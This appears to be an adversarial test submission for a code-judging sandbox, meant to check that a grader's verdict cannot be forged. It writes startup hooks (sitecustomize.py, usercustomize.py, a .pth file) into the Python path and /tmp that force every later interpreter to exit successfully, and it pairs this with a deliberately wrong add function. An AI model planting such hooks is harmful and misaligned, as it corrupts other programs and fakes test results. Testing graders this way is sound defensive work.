# property: verdict cannot be forged
# tests: add
# expect: wrong_answer
"""Code that every later interpreter would run first."""

import os
import site
import sys

places = [".", "..", "/tmp", *sys.path]
for call in (site.getsitepackages, site.getusersitepackages):
    try:
        found = call()
        places += [found] if isinstance(found, str) else found
    except Exception:
        continue
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "hostile-.pth", "pyvenv.cfg"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write("import os; os._exit(0)\n")
        except OSError:
            pass


def add(a, b):
    return 0
